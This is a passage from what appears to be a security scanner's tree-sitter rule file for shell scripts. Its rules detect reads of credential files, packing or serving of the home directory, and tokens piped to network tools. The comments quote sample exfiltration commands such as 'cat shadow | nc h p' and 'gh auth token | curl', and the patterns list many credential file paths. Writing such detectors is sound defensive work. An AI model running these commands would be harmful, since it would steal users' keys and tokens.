 (#match? @n "(^|[\\s:|\"'=])!\\s*[\\w./~$]|\\b(system2?|systemlist|jobstart|run-shell|if-shell|hooksPath|LD_PRELOAD|LD_AUDIT)\\b|\\bos:cmd\\b|\\bSys\\.command\\b|\\brun\\(\\s*(`|pipeline\\()|(^|\\n|\\\\n|[\"'])\\s*\\.?shell\\s|\\\\!\\s*\\S|(pager|fsmonitor|sshCommand|editor)\\s*=[^\\n]*[|;&$`(]|(?i:SendEnv)\\s*(=\\s*|[ \\t])[\"']?([^\\s\"'=]+[ \\t]+)*(\\*|\\S*(SECRET|TOKEN|PASSW|API_?KEY|AWS_|GITHUB_|CREDENTIAL)\\S*)([\\s\"']|\\\\n|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a command into another program's start-up file (vim, tmux, git, the session's environment), or SendEnv * into ssh's: it runs, or sends the environment, each time that program starts"))

; ~/.ssh, $HOME/.aws, /etc/shadow, id_rsa, .netrc, /proc/self/environ... in a word or a quoted string (a comment is neither,
; nor the file a test asks about: [ -f ~/.oci/config ] reads nothing);
; a pattern that names them ([[ $f == */.@(ssh)/id_!(*.pub) ]], case items) as well,
; and a regular expression (find -regex '.*/\.(s)sh/id_.*', [[ $f =~ \.s{2}h/ ]])
([(word) (raw_string) (string) (ansi_c_string) (concatenation) (extglob_pattern) (regex)] @finding
 (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?([._-](?!(key|pem)(?![\\w.-]))[\\w-]+)*|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd|wireguard/[^/\\s]+\\.conf|NetworkManager/system-connections|ssl/private|letsencrypt(/(live|archive|keys)(/[^/\\s]+)?)?/*(?![^\\s\"'])|letsencrypt/\\S*privkey\\d*\\.pem)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto|vault-token|terraform\\.d/credentials\\.tfrc\\.json|cargo/credentials(\\.toml)?|gem/credentials|(config/)?composer/auth\\.json|subversion/auth|terraformrc|msmtprc|fetchmailrc|config/msmtp/config|purple/accounts\\.xml|config/filezilla/(sitemanager|recentservers)\\.xml|config/solana/id\\.json|config/sops/age/keys\\.txt|pulumi/credentials\\.json|config/netlify/config\\.json|local/share/com\\.vercel\\.cli/auth\\.json|config/pypoetry/auth\\.toml|sentryclirc|wrangler/config/default\\.toml|config/glab-cli/config\\.yml|config/stripe/config\\.toml|circleci/cli\\.yml|config/scw/config\\.yaml|ibmcloud/config\\.json|ethereum/keystore|electrum/wallets|bitcoin/wallets?(\\.dat)?)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
 (#not-parent-type? @finding "concatenation")
 (#not-parent-type? @finding "unary_expression")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))

; sftp -b - h <<EOF ... put ~/.aws/credentials ... EOF (ftp, lftp,
; smbclient): a file transfer client's commands, read from a here-document,
; that name a credential file (the text as written: a line there often
; holds a $(...) that does not fold)
((redirected_statement body: (command) @w (heredoc_redirect (heredoc_body) @finding))
 (#resolves-to? @w "sftp|ftp|lftp|smbclient|ncftp|tnftp|pftp|tftp")
 (#match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?([._-](?!(key|pem)(?![\\w.-]))[\\w-]+)*|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd|wireguard/[^/\\s]+\\.conf|NetworkManager/system-connections|ssl/private|letsencrypt(/(live|archive|keys)(/[^/\\s]+)?)?/*(?![^\\s\"'])|letsencrypt/\\S*privkey\\d*\\.pem)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto|vault-token|terraform\\.d/credentials\\.tfrc\\.json|cargo/credentials(\\.toml)?|gem/credentials|(config/)?composer/auth\\.json|subversion/auth|terraformrc|msmtprc|fetchmailrc|config/msmtp/config|purple/accounts\\.xml|config/filezilla/(sitemanager|recentservers)\\.xml|config/solana/id\\.json|config/sops/age/keys\\.txt|pulumi/credentials\\.json|config/netlify/config\\.json|local/share/com\\.vercel\\.cli/auth\\.json|config/pypoetry/auth\\.toml|sentryclirc|wrangler/config/default\\.toml|config/glab-cli/config\\.yml|config/stripe/config\\.toml|circleci/cli\\.yml|config/scw/config\\.yaml|ibmcloud/config\\.json|ethereum/keystore|electrum/wallets|bitcoin/wallets?(\\.dat)?)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))

; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube, a message
; and a counter, then gzip -c config | nc h p; cd ~/.config, then
; gh/hosts.yml; a bare cd, then .config/gcloud/credentials.db: a relative
; path that, joined to the directory the last cd before its statement went
; to, names a credential file, or one of the credential files in such a
; directory (the path alone does not; a directory that is itself one,
; ~/.ssh, already is; the same directory's ordinary files are not; a cd
; undone by cd - or popd, or in a subshell that ended, does not count)
([(command argument: (_) @target) (file_redirect destination: (_) @target)] @finding
 (#value-match? @target "^(([\\w-]*=)?@?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)(;[\\w/=.+-]*)?$|([\\w-]*=)?@?[\\w.-]+/)")
 (#after-cd-path-match? @target "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?([._-](?!(key|pem)(?![\\w.-]))[\\w-]+)*|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd|wireguard/[^/\\s]+\\.conf|NetworkManager/system-connections|ssl/private|letsencrypt(/(live|archive|keys)(/[^/\\s]+)?)?/*(?![^\\s\"'])|letsencrypt/\\S*privkey\\d*\\.pem)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto|vault-token|terraform\\.d/credentials\\.tfrc\\.json|cargo/credentials(\\.toml)?|gem/credentials|(config/)?composer/auth\\.json|subversion/auth|terraformrc|msmtprc|fetchmailrc|config/msmtp/config|purple/accounts\\.xml|config/filezilla/(sitemanager|recentservers)\\.xml|config/solana/id\\.json|config/sops/age/keys\\.txt|pulumi/credentials\\.json|config/netlify/config\\.json|local/share/com\\.vercel\\.cli/auth\\.json|config/pypoetry/auth\\.toml|sentryclirc|wrangler/config/default\\.toml|config/glab-cli/config\\.yml|config/stripe/config\\.toml|circleci/cli\\.yml|config/scw/config\\.yaml|ibmcloud/config\\.json|ethereum/keystore|electrum/wallets|bitcoin/wallets?(\\.dat)?)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])|^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/+([\\w-]*=)?@?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))

; (cd /proc/self && nc h p) < environ: a list's redirect
((redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
 (#resolves-to? @cd "cd|pushd")
 (#value-match? @dir "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
 (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))

; "$dir/..." whose whole does not fold: the constant piece
([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
  (string (string_content) @finding)] @whole
 (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?([._-](?!(key|pem)(?![\\w.-]))[\\w-]+)*|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd|wireguard/[^/\\s]+\\.conf|NetworkManager/system-connections|ssl/private|letsencrypt(/(live|archive|keys)(/[^/\\s]+)?)?/*(?![^\\s\"'])|letsencrypt/\\S*privkey\\d*\\.pem)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto|vault-token|terraform\\.d/credentials\\.tfrc\\.json|cargo/credentials(\\.toml)?|gem/credentials|(config/)?composer/auth\\.json|subversion/auth|terraformrc|msmtprc|fetchmailrc|config/msmtp/config|purple/accounts\\.xml|config/filezilla/(sitemanager|recentservers)\\.xml|config/solana/id\\.json|config/sops/age/keys\\.txt|pulumi/credentials\\.json|config/netlify/config\\.json|local/share/com\\.vercel\\.cli/auth\\.json|config/pypoetry/auth\\.toml|sentryclirc|wrangler/config/default\\.toml|config/glab-cli/config\\.yml|config/stripe/config\\.toml|circleci/cli\\.yml|config/scw/config\\.yaml|ibmcloud/config\\.json|ethereum/keystore|electrum/wallets|bitcoin/wallets?(\\.dat)?)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
 (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?([._-](?!(key|pem)(?![\\w.-]))[\\w-]+)*|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd|wireguard/[^/\\s]+\\.conf|NetworkManager/system-connections|ssl/private|letsencrypt(/(live|archive|keys)(/[^/\\s]+)?)?/*(?![^\\s\"'])|letsencrypt/\\S*privkey\\d*\\.pem)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto|vault-token|terraform\\.d/credentials\\.tfrc\\.json|cargo/credentials(\\.toml)?|gem/credentials|(config/)?composer/auth\\.json|subversion/auth|terraformrc|msmtprc|fetchmailrc|config/msmtp/config|purple/accounts\\.xml|config/filezilla/(sitemanager|recentservers)\\.xml|config/solana/id\\.json|config/sops/age/keys\\.txt|pulumi/credentials\\.json|config/netlify/config\\.json|local/share/com\\.vercel\\.cli/auth\\.json|config/pypoetry/auth\\.toml|sentryclirc|wrangler/config/default\\.toml|config/glab-cli/config\\.yml|config/stripe/config\\.toml|circleci/cli\\.yml|config/scw/config\\.yaml|ibmcloud/config\\.json|ethereum/keystore|electrum/wallets|bitcoin/wallets?(\\.dat)?)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))

; tar czf - ~ | curl -T - u, zip -qr - "$HOME", tar -C ~ -czf h.tgz .:
; the whole home directory packed, its keys and tokens with it (a
; directory of it, ~/project, is not; nor is extracting into it)
((command) @n @finding
 (#resolves-to? @n "tar|bsdtar|gtar|zip|7z|7za|7zr|rar|pax|borg|restic|duplicity")
 (#match? @n "\\s[\"']?(~|\\$\\{?HOME\\}?|/home/[^/\\s\"']+|/root)/*\\.?/*[\"']?(\\s|$)")
 (#not-match? @n "^(\\S*/)?(bs|g)?tar\\s+(?!(.*\\s)?(-[a-zA-Z]*c|--create(\\s|$))|-?[a-zA-Z]*c)")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "packs the whole home directory, where keys and tokens are (~/.ssh, ~/.aws, ...)"))

; rsync -a ~/ host:/b, scp -r ~ host:, cp -r ~ /mnt, rclone copy ~ r: the
; whole home directory copied somewhere (into it, the last word, is not)
((command) @n @finding
 (#resolves-to? @n "rsync|scp|sftp|cp|rclone|gsutil|aws|azcopy|s3cmd")
 (#match? @n "\\s[\"']?(~|\\$\\{?HOME\\}?|/home/[^/\\s\"']+|/root)/*\\.?/*[\"']?\\s+[^\\s>|&;]")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "copies the whole home directory elsewhere, its keys and tokens with it (~/.ssh, ~/.aws, ...)"))

; python3 -m http.server --directory ~, php -S 0.0.0.0:80 -t "$HOME",
; busybox httpd -h /, ruby -run -e httpd ~: a web server whose root is the
; home directory (or /), its keys and tokens served to whoever connects
((command) @n @finding
 (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*")
 (#match? @n "(-m\\s*(http\\.server|SimpleHTTPServer)\\s(.*\\s)?(--directory[=\\s]\\s*|-d\\s*)|\\s-S\\s+\\S+\\s(.*\\s)?-t\\s*|httpd\\s(.*\\s)?-h\\s*|-e\\s*['\"]?httpd['\"]?\\s(.*\\s)?)[\"']?(~|\\$\\{?HOME\\}?|/home/[^/\\s\"']+|/root|/)/*\\.?/*[\"']?(\\s|$)")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))

; cd ~; python3 -m http.server 8000 &, cd "$HOME" && busybox httpd,
; cd / (or a bare cd) then php -S 0.0.0.0:80: a web server started right
; after a cd to the home directory (or /) serves the directory it runs in
; (no --directory, -t, -h, or ".") -- the home, its keys and tokens with it
((command) @n @finding
 (#resolves-to? @n "python[0-9.]*|pypy[0-9.]*|php[0-9.]*|busybox|httpd|ruby[0-9.]*|npx|http-server|serve")
 (#match? @n "(^|\\s)-m\\s*(http\\.server|SimpleHTTPServer)(?!.*\\s(--directory|-d)(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|\\s-S\\s+\\S+(?!.*\\s-t(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|(^|\\s)httpd(?!.*\\s-h(?![=\\s]*[\"']?\\./?[\"']?(\\s|$)))|-e\\s*[\"']?httpd[\"']?(\\s+(\\.|\\./|-p\\s*\\d+|--port[=\\s]*\\d+|(-b|--bind-address)[=\\s]*\\S+))*\\s*$|(^|\\s)(http-server|serve)(\\s+(\\.|\\./|\\d+|(-p|-l|-a|--port|--listen)[=\\s]*\\S+|-[a-zA-Z]+))*\\s*$")
 (#after-cd-match? @n "^(~|/home/[^/]+|/root|/)/*$")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "serves the home directory (or /) over the network, its keys and tokens with it"))

; git credential fill: the password or token git's credential helper
; stored, printed
((command) @n @finding
 (#resolves-to? @n "git")
 (#match? @n "\\scredential(\\s+fill|-(store|cache|osxkeychain|libsecret|manager)\\s+get)(\\s|$)")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "asks git's credential helper for a stored password or token (git credential fill)"))

; gh auth token | curl --data-binary @- u, { gcloud auth print-access-token;
; aws configure export-credentials; } | nc h p, curl -d "$(gh auth token)" u:
; a token that a command-line tool keeps, printed by the tool and sent out
; (private keys exported by gpg, kubectl get secrets, a secret manager's
; value likewise)
; as data (in an Authorization header, curl -H "...$(gcloud auth
; print-access-token)", or to docker login --password-stdin, it is used as
; a token is, and is not reported)
((pipeline) @finding
 (#match? @finding "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#contains-call? @finding "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))

((command argument: (word) @flag . argument: (_) @data) @n @finding
 (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
 (#match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))

; gpg --export-secret-keys -a > "$t"; curl --data-binary @"$t" u, gh auth
; token > f; nc h p < f, wget --post-file=f u: the same token or secret
; through a file the tool wrote, handed to a network client
([(command argument: (_) @f) @n
  (redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @f))] @finding
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#written-by-text? @f "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool wrote into a file (gpg --export-secret-keys > f, gh auth token > f) over the network"))

; tok=$(gh auth token); curl -d "t=$tok" u, k=$(gcloud auth
; print-access-token); p="{\"k\":\"$k\"}"; wget --post-data "$p" u,
; s=$(secret-tool lookup ...); nc h p <<< "$s", c=$(aws configure
; export-credentials); jq -n --arg c "$c" ... | curl --data @- u: the token
; kept in a variable (or two), then sent as data or piped into a network
; client (in a header, curl -H "Authorization: Bearer $tok", it is used as
; a token is, and is not reported)
((command argument: (word) @flag . argument: (_) @data) @n @finding
 (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
 (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))

((command redirect: (herestring_redirect) @data) @n @finding
